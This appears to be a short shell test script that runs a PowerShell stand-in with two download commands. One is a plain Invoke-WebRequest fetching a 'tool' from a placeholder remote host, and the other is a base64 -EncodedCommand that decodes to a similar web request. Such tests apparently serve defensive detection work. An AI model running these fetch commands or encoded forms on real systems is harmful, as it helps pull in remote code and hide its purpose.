#!/bin/sh
# A stand-in for PowerShell is told to fetch something, in plain words and encoded.
# Environment: see ../emulation.sh.
. "$(dirname "$0")/../emulation.sh"

stand_in pwsh
inside "$stand_in" -NoProfile -Command "Invoke-WebRequest -Uri http://$remote/tool -OutFile $there/tool" </dev/null >/dev/null
inside "$stand_in" -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwB4AC8A </dev/null >/dev/null
